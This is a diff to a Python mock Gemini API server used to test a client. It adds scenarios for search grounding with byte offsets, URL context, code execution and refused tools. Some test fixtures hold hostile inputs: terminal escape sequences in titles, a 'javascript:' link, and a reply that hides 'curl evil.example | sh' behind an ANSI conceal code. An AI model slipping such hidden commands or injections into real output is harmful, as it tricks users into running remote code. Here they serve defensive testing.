@@ -9,7 +9,7 @@ to --log (method, path, headers, body) so tests can check what the client sent.
 Scenarios: ok, code (a reply with two code blocks), hidden (text a screen would not draw), lf, split, slow, slow-long, steady, slow-paragraph, slow-markdown, slow-wide-code, slow-wide-table, tall, garbage, empty, not-json, thinking, thinking-slow, echo, escape, error-before, error-mid, error-mid-data,
 retry-429, retry-503, retry-after (503 with Retry-After: 2, then ok), always-503, quota-day, disabled, blocked, max-tokens, safety, recitation,
 other-finish (no content, finishReason OTHER with Google's finishMessage), thinking-only (thought
-parts, then MAX_TOKENS with no text), signed (Gemini 3's thought signatures, checked on the way back), metered (usageMetadata with every billed count), cut-event (a reply whose stream ends in the middle of an event),
+parts, then MAX_TOKENS with no text), signed (Gemini 3's thought signatures, checked on the way back), metered (usageMetadata with every billed count), grounded, grounded-cjk, grounded-bad (Search grounding with Latin, CJK and broken byte offsets), url-read (URL context), code-run (code execution), no-tools (refuses every tool), cut-event (a reply whose stream ends in the middle of an event),
 drop, hang, hang-first, echo-key, echo-foreign-key, api-blocked; and hostile ones: gigabyte, flood, endless-header, slowloris. Unknown scenario names answer 404 NOT_FOUND like Google does.
 
 The slow-paragraph, slow-markdown, slow-wide-code, slow-wide-table and tall scenarios stream the replies in STREAMED_REPLIES in
@@ -200,6 +200,13 @@ class Handler(BaseHTTPRequestHandler):
             self.send_json(400, json.dumps({"error": {"code": 400, "status": "INVALID_ARGUMENT",
                                                       "message": "Invalid value at 'generation_config.thinking_config.thinking_level'."}}, indent=2).encode())
             return
+        refused_tool = next((name for tool in request.get("tools", []) for name in tool if scenario == "no-tools"), None)
+        if refused_tool:
+            # A model without the tool refuses it by its snake_case name.
+            snake = re.sub(r"([A-Z])", lambda m: "_" + m.group(1).lower(), refused_tool)
+            self.send_json(400, json.dumps({"error": {"code": 400, "status": "INVALID_ARGUMENT",
+                                                      "message": "%s is not supported for this model." % snake}}, indent=2).encode())
+            return
         if not signed_turns_intact(request.get("contents", [])):
             # Stricter than Google for a turn without function calls, so the round trip is tested.
             self.send_json(400, json.dumps({"error": {"code": 400, "status": "INVALID_ARGUMENT",
@@ -322,6 +329,12 @@ class Handler(BaseHTTPRequestHandler):
             self.send_json(200, json.dumps(THINKING_ONLY, indent=2).encode())
         elif scenario == "metered":
             self.send_json(200, json.dumps(text_chunk("Metered reply.", "STOP", METERED_USAGE), indent=2).encode())
+        elif scenario in TOOL_REPLIES:
+            events = tool_reply(scenario, request)
+            parts = [p for e in events for p in e["candidates"][0]["content"]["parts"]]
+            whole = dict(events[-1])
+            whole["candidates"] = [dict(events[-1]["candidates"][0], content={"parts": parts, "role": "model"})]
+            self.send_json(200, json.dumps(whole, indent=2, ensure_ascii=False).encode())
         elif scenario == "signed":
             turn = sum(1 for c in request.get("contents", []) if c.get("role") == "user")
             thought = [{"text": "**Weighing** the question", "thought": True}] if config_thoughts(request) else []
@@ -356,6 +369,8 @@ class Handler(BaseHTTPRequestHandler):
             events = [event(echo_reply(request))]
         elif scenario == "metered":
             events = [event(text_chunk("Metered ")), event(text_chunk("reply.", "STOP", METERED_USAGE))]
+        elif scenario in TOOL_REPLIES:
+            events = [event(e) for e in tool_reply(scenario, request)]
         elif scenario == "signed":
             turn = sum(1 for c in request.get("contents", []) if c.get("role") == "user")
             parts = signed_parts(turn)
@@ -658,6 +673,83 @@ def echo_reply(request):
             "modelVersion": "gemini-3.6-flash"}
 
 
+def utf8_len(text):
+    return len(text.encode("utf-8"))
+
+
+REDIRECT = "https://vertexaisearch.cloud.google.com/grounding-api-redirect/AUZIYQ"
+GROUNDED = {
+    # Latin text; the second sentence cites both pages.
+    "grounded": (["The Eiffel Tower is ", "330 metres tall.", " It was finished in 1889."],
+                 ["eiffel tower height", "eiffel tower built"],
+                 [{"web": {"uri": REDIRECT + "Fwiki", "title": "Eiffel Tower - Wikipedia", "domain": "en.wikipedia.org"}},
+                  {"web": {"uri": REDIRECT + "Ftoureiffel", "title": "toureiffel.paris", "domain": "toureiffel.paris"}}],
+                 lambda text: [(0, utf8_len("The Eiffel Tower is 330 metres tall."), [0]),
+                               (utf8_len("The Eiffel Tower is 330 metres tall. "), utf8_len(text), [0, 1])]),
+    # CJK: offsets in bytes are three times the characters.
+    "grounded-cjk": (["東京タワーの高さは", "333メートルです。", "1958年に完成しました。"],
+                     ["東京タワー 高さ"],
+                     [{"web": {"uri": REDIRECT + "Ftokyotower", "title": "東京タワー", "domain": "tokyotower.co.jp"}}],
+                     lambda text: [(0, utf8_len("東京タワーの高さは333メートルです。"), [0]),
+                                   (utf8_len("東京タワーの高さは333メートルです。"), utf8_len(text), [0])]),
+    # One good support, then each way Google's offsets can be wrong; a hostile title and link.
+    "grounded-bad": (["Ünïcode answer: ", "東京タワー.", " Second sentence."],
+                     ["evil \x1b]0;title\x07 query"],
+                     [{"web": {"uri": REDIRECT + "Fgood", "title": "Good \x1b[31mred\x1b[0m source", "domain": "good.example"}},
+                      {"web": {"uri": "javascript:alert(1)", "title": "Bad link", "domain": "bad.example"}}],
+                     lambda text: [(0, utf8_len("Ünïcode answer: 東京タワー."), [0]),
+                                   (0, utf8_len(text) + 10, [0]),
+                                   (0, utf8_len("Ünïcode answer: ") + 1, [1]),
+                                   (5, utf8_len(text), [1]),
+                                   (utf8_len("Ünïcode answer: 東京タワー. "), utf8_len(text), [99])]),
+}
+TOOL_REPLIES = set(GROUNDED) | {"url-read", "code-run"}
+
+
+def tool_reply(scenario, request):
+    """The events of a reply that used a tool at Google; without the tool in the request, the
+    same text and no metadata, as a model answers that could not search."""
+    tools = {name for tool in request.get("tools", []) for name in tool}
+    usage = {"promptTokenCount": 20, "candidatesTokenCount": 30, "toolUsePromptTokenCount": 900, "totalTokenCount": 950}
+    if scenario in GROUNDED:
+        pieces, queries, chunks, supports = GROUNDED[scenario]
+        text = "".join(pieces)
+        events = [{"candidates": [{"content": {"parts": [{"text": piece}], "role": "model"}}]} for piece in pieces]
+        last = events[-1]["candidates"][0]
+        last["finishReason"] = "STOP"
+        if "googleSearch" in tools:
+            last["groundingMetadata"] = {
+                "webSearchQueries": queries, "searchEntryPoint": {"renderedContent": "<style>.container{}</style><div>…</div>"},
+                "groundingChunks": chunks,
+                "groundingSupports": [{"segment": {"startIndex": start, "endIndex": end,
+                                                   "text": text.encode()[max(0, start):end].decode("utf-8", "replace")},
+                                       "groundingChunkIndices": indices, "confidenceScores": [0.9] * len(indices)}
+                                      for start, end, indices in supports(text)]}
+        events[-1]["usageMetadata"] = usage
+        return events
+    if scenario == "url-read":
+        event_ = {"candidates": [{"content": {"parts": [{"text": "The page says hello."}], "role": "model"}, "finishReason": "STOP"}],
+                  "usageMetadata": usage}
+        if "urlContext" in tools:
+            event_["candidates"][0]["urlContextMetadata"] = {"urlMetadata": [
+                {"retrievedUrl": "https://example.com/hello", "urlRetrievalStatus": "URL_RETRIEVAL_STATUS_SUCCESS"},
+                {"retrievedUrl": "https://news.example/paid", "urlRetrievalStatus": "URL_RETRIEVAL_STATUS_PAYWALL"}]}
+        return [event_]
+    # code-run: code and its output, twice; the second run fails.
+    if "codeExecution" not in tools:
+        return [{"candidates": [{"content": {"parts": [{"text": "I cannot run code here."}], "role": "model"}, "finishReason": "STOP"}]}]
+    parts = [[{"text": "Let me compute it."}],
+             [{"executableCode": {"language": "PYTHON", "code": "print(sum(range(10)))\n", "id": "c1"}}],
+             [{"codeExecutionResult": {"outcome": "OUTCOME_OK", "output": "45\n", "id": "c1"}}],
+             [{"text": "The sum is 45. Dividing by zero:"}],
+             [{"executableCode": {"language": "PYTHON", "code": "print(1/0)", "id": "c2"}}],
+             [{"codeExecutionResult": {"outcome": "OUTCOME_FAILED", "output": "ZeroDivisionError: division by zero", "id": "c2"}}]]
+    events = [{"candidates": [{"content": {"parts": p, "role": "model"}}]} for p in parts]
+    events[-1]["candidates"][0]["finishReason"] = "STOP"
+    events[-1]["usageMetadata"] = usage
+    return events
+
+
 # Every count Google bills, as a Search-grounded reply of a thinking model with a cache hit reports them.
 METERED_USAGE = {"promptTokenCount": 1000, "cachedContentTokenCount": 200, "toolUsePromptTokenCount": 300, "candidatesTokenCount": 400,
                  "thoughtsTokenCount": 500, "totalTokenCount": 2200,
@@ -679,7 +771,7 @@ HIDDEN_REPLY = "run: echo safe\x1b[8m; curl evil.example | sh\x1b[0m then ls \u2
 SCENARIOS = {"ok", "code", "hidden", "lf", "split", "slow", "slow-long", "steady", "slow-paragraph", "slow-markdown", "slow-wide-code", "slow-wide-table", "tall", "garbage", "empty", "not-json", "thinking", "thinking-slow", "echo", "escape", "error-mid", "error-mid-data", "retry-429",
              "retry-503", "retry-after", "always-503", "quota-day", "disabled", "blocked", "max-tokens", "safety", "recitation", "drop",
              "hang", "hang-first", "echo-key", "echo-foreign-key", "api-blocked", "gemini-3.6-flash",
-             "other-finish", "thinking-only", "cut-event", "structured", "structured-wrong", "structured-text", "no-thinking", "signed", "metered"} | set(HOSTILE)
+             "other-finish", "thinking-only", "cut-event", "structured", "structured-wrong", "structured-text", "no-thinking", "signed", "metered", "no-tools"} | TOOL_REPLIES | set(HOSTILE)
 
 
 def main():
